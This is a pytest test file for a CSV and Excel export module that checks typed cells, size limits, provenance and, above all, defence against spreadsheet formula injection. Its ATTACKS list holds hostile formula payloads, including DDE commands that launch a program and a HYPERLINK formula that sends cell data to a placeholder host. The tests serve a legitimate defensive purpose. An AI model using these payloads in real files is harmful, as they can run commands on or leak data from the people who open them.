"""What leaves as CSV or Excel: typed, labelled, complete, and never a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.export import (
    ExportColumn,
    Provenance,
    file_name,
    looks_like_formula,
    to_csv,
    to_excel,
)
from data.errors import LanewiseError

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\u3000＋1",
    "\u00a0@SUM(A1)",
    "\ufeff=1",
    '=HYPERLINK("//host/?x="&A1,"click")',
]


def provenance(**changes) -> Provenance:
    values = {
        "snapshot_id": "20240301T101500",
        "content_hash": "9f2c" * 16,
        "data_date": date(2024, 2, 29),
        "period": "2023-03 to 2024-02",
        "filters": (("Mode", "Truck"),),
        "synthetic": False,
        "currency": "USD",
    }
    return Provenance(**{**values, **changes})


def frame_of(values, *, dtype=object) -> pd.DataFrame:
    return pd.DataFrame({"value": pd.Series(values, dtype=dtype)})


def csv_rows(frame, *columns, **changes) -> list[list[str]]:
    text = to_csv(frame, columns=columns, provenance=provenance(**changes)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_values(values, *, as_format="text", dtype=object) -> list[str]:
    rows = csv_rows(frame_of(values, dtype=dtype), ExportColumn("value", "Value", format=as_format))
    return [row[0] for row in rows[1:]]


def workbook_of(frame, *columns, name="Lanes", **changes):
    content = to_excel({name: (frame, columns)}, provenance=provenance(**changes))
    return openpyxl.load_workbook(io.BytesIO(content))


def excel_cells(values, *, as_format="text", dtype=object):
    sheet = workbook_of(frame_of(values, dtype=dtype), ExportColumn("value", "Value", format=as_format))["Lanes"]
    return [sheet.cell(row=row, column=1) for row in range(2, len(values) + 2)]


def about_of(workbook) -> dict[str, str]:
    return {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True) if row[0] is not None}


# ---- text is never a formula


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_text_that_a_spreadsheet_would_run_starts_with_an_apostrophe(attack):
    assert csv_values([attack]) == ["'" + attack]


@pytest.mark.parametrize("attack", ATTACKS)
def test_excel_text_that_a_spreadsheet_would_run_is_a_quoted_text_cell(attack):
    (cell,) = excel_cells([attack])
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert unescaped(cell.value) == attack


def test_the_workbook_holds_no_formula_and_no_link():
    content = to_excel(
        {"=1+1": (frame_of([*ATTACKS, "mailto:a@b.example", "internal:A1"]), [ExportColumn("value", "=2+2")])},
        provenance=provenance(filters=(("=lane", "=A1"),), period="=NOW()"),
        title="=3+3",
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
    assert len(sheets) == 2
    assert not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)


def test_numbers_stay_numbers_below_zero_too():
    assert csv_values([-5, -0.25, Decimal("-7.10")], as_format="number") == ["-5", "-0.25", "-7.10"]
    cells = excel_cells([-5, -0.25, Decimal("-7.10")], as_format="number")
    assert [cell.value for cell in cells] == [-5, -0.25, -7.1]
    assert {cell.data_type for cell in cells} == {"n"}


def test_plain_text_is_left_as_it_is():
    plain = ["Dallas–Atlanta", "a = b", "3-4", "", "O'Hare", "'quoted"]
    assert csv_values(plain) == plain
    assert not any(looks_like_formula(text) for text in plain)


def test_a_heading_is_guarded_too():
    (header, *_) = csv_rows(frame_of(["x"]), ExportColumn("value", "=1+1"))
    assert header[0] == "'=1+1"


# ---- typed cells


@pytest.mark.parametrize("missing", [None, float("nan"), pd.NaT, pd.NA, np.nan])
@pytest.mark.parametrize("as_format", ["text", "count", "amount", "percent", "date", "timestamp"])
def test_null_is_blank_and_never_zero(missing, as_format):
    assert csv_values([missing], as_format=as_format) == [""]
    (cell,) = excel_cells([missing], as_format=as_format)
    assert cell.value is None


@pytest.mark.parametrize(
    ("values", "dtype", "as_format", "number_format", "expected"),
    [
        ([1, 2], "int64", "count", "#,##0", [1, 2]),
        ([1, None], "Int64", "count", "#,##0", [1, None]),
        ([1234.5, None], "float64", "amount", "#,##0.00", [1234.5, None]),
        ([Decimal("1627584457.29")], object, "amount", "#,##0.00", [1627584457.29]),
        ([0.125], "float64", "percent", "0.0%", [0.125]),
        ([3.1], "float64", "ratio", "0.00", [3.1]),
        ([0.0421], "float32", "rate", "#,##0.000", [pytest.approx(0.0421)]),
        ([True, False], "bool", "text", "General", [True, False]),
    ],
)
def test_excel_numbers_are_numbers(values, dtype, as_format, number_format, expected):
    cells = excel_cells(values, as_format=as_format, dtype=dtype)
    assert [cell.value for cell in cells] == expected
    assert {cell.number_format for cell in cells if cell.value is not None} == {number_format}


def test_dates_and_timestamps_are_typed_and_utc():
    departed = datetime(2024, 3, 1, 9, 30, tzinfo=UTC)
    frame = pd.DataFrame(
        {
            "day": pd.to_datetime(["2014-06-12", None]),
            "departed": pd.Series([departed, None], dtype="datetime64[us, Asia/Tokyo]"),
            "arrived": pd.to_datetime(["2024-03-01 10:00:00", None]),
        }
    )
    columns = (
        ExportColumn("day", "Loss date", format="date"),
        ExportColumn("departed", "Departed", format="timestamp"),
        ExportColumn("arrived", "Arrived", format="timestamp"),
    )
    sheet = workbook_of(frame, *columns)["Lanes"]
    assert [cell.value for cell in sheet[1]] == ["Loss date", "Departed (UTC)", "Arrived (UTC)"]
    assert [cell.value for cell in sheet[2]] == [
        datetime(2014, 6, 12),
        datetime(2024, 3, 1, 9, 30),
        datetime(2024, 3, 1, 10, 0),
    ]
    assert [cell.number_format for cell in sheet[2]] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss", "yyyy-mm-dd hh:mm:ss"]
    rows = csv_rows(frame, *columns)
    assert rows[0][:3] == ["Loss date", "Departed (UTC)", "Arrived (UTC)"]
    assert rows[1][:3] == ["2014-06-12", "2024-03-01 09:30:00", "2024-03-01 10:00:00"]
    assert rows[2][:3] == ["", "", ""]


def test_dates_that_excel_cannot_count_become_iso_text():
    cells = excel_cells([date(1900, 2, 28), date(1899, 12, 31), date(1900, 3, 1)], as_format="date")
    assert [cell.value for cell in cells] == ["1900-02-28", "1899-12-31", datetime(1900, 3, 1)]


def test_milliseconds_are_kept():
    (cell,) = excel_cells([datetime(2024, 3, 1, 9, 30, 0, 125000)], as_format="timestamp")
    assert cell.value == datetime(2024, 3, 1, 9, 30, 0, 125000)
    assert cell.number_format.endswith(".000")
    assert csv_values([datetime(2024, 3, 1, 9, 30, 0, 125000)], as_format="timestamp") == ["2024-03-01 09:30:00.125000"]


def test_a_number_that_a_cell_cannot_hold_goes_as_text():
    values = [2007010518383, 12345678901234567890, Decimal("12345678901234.567"), Decimal("1." + "0" * 30 + "1")]
    cells = excel_cells([*values, float("inf")], as_format="number")
    assert [cell.value for cell in cells] == [
        2007010518383,
        "12345678901234567890",
        "12345678901234.567",
        "1." + "0" * 30 + "1",
        "inf",
    ]


def test_identifiers_stay_text_and_lose_no_zero():
    values = ["007", 2007010518383, 2007010518383.0, np.int64(42)]
    expected = ["007", "2007010518383", "2007010518383", "42"]
    assert csv_values(values) == expected
    assert [cell.value for cell in excel_cells(values)] == expected


def test_text_in_a_numeric_column_is_kept():
    assert csv_values(["See DN-304", 3], as_format="amount") == ["See DN-304", "3"]
    assert [cell.value for cell in excel_cells(["See DN-304", 3], as_format="amount")] == ["See DN-304", 3]


def test_unicode_quotes_separators_and_newlines_survive():
    values = ["Łódź → 東京 🚚", 'say "hi", now; \\', "two\nlines", "carriage\r\nreturn", "control\x01character"]
    assert csv_values(values) == values
    assert [unescaped(cell.value) for cell in excel_cells(values)] == values


def test_text_that_reads_like_an_escape_is_not_one():
    assert unescaped(excel_cells(["_x000D_"])[0].value) == "_x000D_"


@pytest.mark.parametrize("text", ["<r></r>", "<r><t>x</t></r>", "<r>&</r>", "<b>x</b> & <!-- y -->", "]]>"])
def test_markup_is_text(text):
    assert excel_cells([text])[0].value == text


def unescaped(text: str) -> str:
    """openpyxl leaves Excel's _xHHHH_ escapes of control characters as they stand."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_comes_back_from_csv_with_at_most_an_apostrophe(values):
    for before, after in zip(values, csv_values(values), strict=True):
        assert after in {before, "'" + before}
        assert not looks_like_formula(after)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=40), min_size=1, max_size=5))
def test_any_text_comes_back_from_excel(values):
    after = [unescaped(cell.value or "") for cell in excel_cells(values)]
    assert after == [re.sub("[\ufffe\uffff]", "\ufffd", value) for value in values]


def test_half_characters_damage_no_file():
    assert excel_cells(["half \ud83d"])[0].value == "half \ufffd"
    assert csv_values(["half \ud83d"]) == ["half ?"]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1, max_size=5))
def test_any_number_comes_back_from_csv_to_twelve_digits(values):
    back = [float(text) for text in csv_values(values, as_format="number", dtype="float64")]
    assert back == pytest.approx(values, rel=1e-11, abs=0)


def test_digits_that_only_arithmetic_made_are_not_written():
    assert csv_values([15.85450694000052, 0.1 + 0.2, 3.0], as_format="number") == ["15.85450694", "0.3", "3.0"]
    assert csv_values([29898518.95000001, 123456789012.34], as_format="amount") == ["29898518.95", "123456789012.34"]
    assert [cell.value for cell in excel_cells([29898518.95000001], as_format="amount")] == [29898518.95]
    assert csv_values([Decimal("1.00000000000000000001")], as_format="number") == ["1.00000000000000000001"]


# ---- limits: refused in words, never cut


def test_a_text_longer_than_a_cell_is_refused_for_excel_and_whole_in_csv():
    longest = "x" * 32_767
    assert excel_cells([longest])[0].value == longest
    with pytest.raises(LanewiseError, match=r"Lanes, row 1, column 1.*32,768 characters.*CSV"):
        excel_cells(["x" * 32_768])
    assert csv_values(["x" * 100_000]) == ["x" * 100_000]


def test_an_emoji_counts_as_the_two_units_that_excel_counts():
    with pytest.raises(LanewiseError, match="32,768"):
        excel_cells(["🚚" * 16_384])


def test_more_rows_than_a_sheet_are_refused():
    frame = pd.DataFrame({"value": np.zeros(1_048_576)})
    with pytest.raises(LanewiseError, match=r"1,048,576 rows.*1,048,575.*CSV"):
        to_excel({"Pings": (frame, [ExportColumn("value", "Value")])}, provenance=provenance())


def test_a_column_that_is_not_there_is_named():
    with pytest.raises(LanewiseError, match=r"no column 'losses'.*value"):
        to_csv(frame_of([1]), columns=[ExportColumn("losses", "Losses")], provenance=provenance())


def test_two_columns_with_one_heading_are_refused():
    columns = [ExportColumn("value", "Loss", unit="USD"), ExportColumn("value", "loss (usd)")]
    with pytest.raises(LanewiseError, match="two columns are headed"):
        to_csv(frame_of([1]), columns=columns, provenance=provenance())


# ---- provenance


def test_the_first_sheet_says_what_was_read_and_what_columns_mean():
    column = ExportColumn("value", "Loss", unit="USD", format="amount", definition="Ground-up loss")
    workbook = workbook_of(frame_of([1.5]), column)
    assert workbook.sheetnames == ["About", "Lanes"]
    about = about_of(workbook)
    assert about["Snapshot"] == "20240301T101500"
    assert about["Content hash"] == "9f2c" * 16
    assert about["Data's date"] == "2024-02-29"
    assert about["Period"] == "2023-03 to 2024-02"
    assert about["Currency"] == "USD"
    assert about["Filter: Mode"] == "Truck"
    rows = list(workbook["About"].iter_rows(values_only=True))
    assert ("Lanes", "Loss", "USD", "Ground-up loss") in rows
    assert workbook["Lanes"]["A1"].value == "Loss (USD)"


def test_synthetic_data_is_named_in_every_file():
    column = ExportColumn("value", "Value")
    workbook = workbook_of(frame_of(["x"]), column, synthetic=True)
    assert workbook["About"]["A2"].value == "SYNTHETIC DATA"
    assert "SYNTHETIC DATA" in workbook["Lanes"].oddHeader.center.text
    assert csv_rows(frame_of(["x"]), column, synthetic=True)[1][-1].endswith("SYNTHETIC DATA")
    assert file_name("Lanes", provenance=provenance(synthetic=True), ending="csv").endswith("-synthetic.csv")


def test_real_data_is_nowhere_called_synthetic():
    column = ExportColumn("value", "Value")
    workbook = workbook_of(frame_of(["x"]), column)
    assert "SYNTHETIC" not in str(list(workbook["About"].iter_rows(values_only=True)))
    assert "SYNTHETIC" not in str(csv_rows(frame_of(["x"]), column))
    assert file_name("Lanes", provenance=provenance(), ending="xlsx") == "lanewise-lanes-20240301t101500.xlsx"


def test_csv_starts_with_its_header_and_ends_with_the_snapshot():
    content = to_csv(
        frame_of([0.25]), columns=[ExportColumn("value", "Uptime", unit="%", format="percent")], provenance=provenance()
    )
    assert content == (
        "\ufeffUptime (share),Source snapshot\r\n0.25,20240301T101500; content 9f2c9f2c9f2c\r\n".encode()
    )


# ---- the workbook as a whole


def test_same_input_same_bytes():
    tables = {"Lanes": (frame_of(["a", None]), [ExportColumn("value", "Value")])}
    assert to_excel(tables, provenance=provenance()) == to_excel(tables, provenance=provenance())


def test_header_is_frozen_and_filtered():
    sheet = workbook_of(frame_of(["a", "b"]), ExportColumn("value", "Value"))["Lanes"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:A3"


def test_an_empty_table_keeps_its_header():
    column = ExportColumn("value", "Value", format="count")
    assert [cell.value for cell in workbook_of(frame_of([]), column)["Lanes"][1]] == ["Value"]
    assert csv_rows(frame_of([]), column) == [["Value", "Source snapshot"]]


def test_sheet_names_are_such_as_excel_takes():
    frame, columns = frame_of(["a"]), [ExportColumn("value", "Value")]
    names = ["Lanes: by [mode]/month?", "x" * 40, "X" * 40, "about", "History", "'", "l'été'"]
    content = to_excel(dict.fromkeys(names, (frame, columns)), provenance=provenance())
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == [
        "About",
        "Lanes by mode month",
        "x" * 31,
        "X" * 29 + " 2",
        "about 2",
        "History 2",
        "Table",
        "l'été",
    ]


def test_the_frame_is_left_as_it_was():
    frame = frame_of(["=1", None])
    before = frame.copy(deep=True)
    to_csv(frame, columns=[ExportColumn("value", "Value")], provenance=provenance())
    to_excel({"Lanes": (frame, [ExportColumn("value", "Value")])}, provenance=provenance())
    pd.testing.assert_frame_equal(frame, before)
